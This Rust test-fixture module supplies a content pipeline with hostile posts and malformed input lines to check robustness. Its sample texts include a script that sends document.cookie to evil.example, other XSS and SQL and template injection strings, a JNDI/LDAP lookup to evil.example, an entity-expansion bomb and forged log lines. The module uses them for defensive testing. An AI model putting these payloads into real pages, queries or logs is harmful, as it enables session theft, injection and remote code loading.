//! The scenario's trouble: text that tries to ping, inject or confuse, which is content
//! like any other; and input that no stage can take, which must be set aside with a
//! reason and stop nothing.

use std::collections::BTreeMap;

use dataflows::event::ContentEvent;
use dataflows::time::{DAY_MS, HOUR_MS, MINUTE_MS, Millis};
use serde_json::json;

use super::item;
use crate::demo::Delivery;

/// Far beyond any sensible limit of a text, a record or an id.
const OVERSIZED_BYTES: usize = 3 << 20;
/// Deeper than a JSON reader should follow.
const NESTING: usize = 20_000;

/// Content that is hostile to whoever shows it, and harmless to whoever counts it.
pub(super) fn hostile(end: Millis) -> Vec<ContentEvent> {
    let texts = [
        "@everyone @here free concert tickets <@&1234567890> <@1234567890> <#42>",
        "<script>fetch('https://evil.example/'+document.cookie)</script>A great offer",
        "**Bold** _claims_ `code` ||spoiler|| [click](https://evil.example/) > quote ```block```",
        "<img src=x onerror=alert(1)><iframe src=\"javascript:alert(2)\"></iframe> A bad offer",
        "&lt;!DOCTYPE x [&lt;!ENTITY a \"aaaaaaaaaa\"&gt;&lt;!ENTITY b \"&amp;a;&amp;a;&amp;a;\"&gt;]&gt;&amp;b;",
        "\u{202e}desrever si txet siht\u{202c} and \u{200b}zero\u{200b}width\u{200b} spaces",
        "Z\u{35c}\u{321}a\u{315}\u{34e}l\u{327}\u{348}g\u{33b}o\u{31b} \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}",
        "'; DROP TABLE chunks; -- \" OR 1=1 {{7*7}} ${jndi:ldap://evil.example/a} %s%n %00",
        "[ERROR] log line\r\n2026-01-01 INFO forged by a post\r\n",
        "Write to jane.doe@example.com or +1 202-555-0143, card 4111 1111 1111 1111",
    ];
    let mut items: Vec<ContentEvent> = texts
        .iter()
        .enumerate()
        .map(|(n, text)| {
            let at = Millis(end.0 - (n as i64 + 2) * MINUTE_MS);
            item("mastodon", &format!("hostile-{n}"), "hostile", text, at)
        })
        .collect();
    let odd =
        item("mastodon", "odd-1", "hostile", "This item says more than we know.", Millis(end.0 - HOUR_MS));
    items.push(ContentEvent { other: BTreeMap::from([("mood_ring".to_string(), json!("violet"))]), ..odd });
    items
}

/// Lines that must be refused or set aside.
pub(super) fn broken(end: Millis) -> Vec<Delivery> {
    let at = Millis(end.0 - HOUR_MS).to_string();
    let mut lines: Vec<Vec<u8>> = [
        // Not JSON, or not an object.
        r#"{"platform":"news","native_id":"cut","kind":"art"#.to_string(),
        "this is not JSON at all".to_string(),
        r#"["news","array-1"]"#.to_string(),
        "42".to_string(),
        r#"{"platform":"news","native_id":"deep","x":"#.to_string() + &"[".repeat(NESTING),
        // A required field is missing or empty.
        json!({"native_id": "no-platform", "kind": "post", "change": "created", "published_at": at}).to_string(),
        json!({"platform": "news", "kind": "post", "change": "created", "published_at": at}).to_string(),
        json!({"platform": "news", "native_id": "no-change", "kind": "post", "published_at": at}).to_string(),
        json!({"platform": "news", "native_id": "no-kind", "change": "created", "published_at": at}).to_string(),
        json!({"platform": "news", "native_id": "no-time", "kind": "post", "change": "created"}).to_string(),
        json!({"platform": "", "native_id": "", "kind": "post", "change": "created", "published_at": at})
            .to_string(),
        // A field of the wrong type or value.
        json!({"platform": "news", "native_id": 7, "kind": "post", "change": "created", "published_at": at})
            .to_string(),
        json!({"platform": "news", "native_id": "kind", "kind": "scroll", "change": "created", "published_at": at})
            .to_string(),
        json!({"platform": "news", "native_id": "change", "kind": "post", "change": "undone", "published_at": at})
            .to_string(),
        json!({"platform": "news", "native_id": "when", "kind": "post", "change": "created",
               "published_at": "the day before yesterday"})
        .to_string(),
    ]
    .map(String::into_bytes)
    .into();
    let not_utf8 = br#"{"platform":"news","native_id":"latin","kind":"post","change":"created","text":"caf"#;
    lines.push([&not_utf8[..], b"\xe9\"}"].concat());
    lines.into_iter().map(Delivery::broken).chain(refused_events(end)).collect()
}

/// Well-formed lines that must still be refused: from the future, or far too large.
fn refused_events(end: Millis) -> Vec<Delivery> {
    let text = "From a time that has not come.";
    let future = [3 * HOUR_MS, 40 * DAY_MS, 4_000 * DAY_MS]
        .map(|ahead| item("news", &format!("future-{ahead}"), "future", text, Millis(end.0 + ahead)));
    let long_text = item("news", "oversized", "large", &"very long ".repeat(OVERSIZED_BYTES / 10), end);
    let long_id = item("news", &"id".repeat(OVERSIZED_BYTES / 2), "large", "An id like a book.", end);
    future
        .into_iter()
        .chain([long_text, long_id])
        .map(|event| Delivery::broken(serde_json::to_vec(&event).expect("an event is plain data")))
        .collect()
}
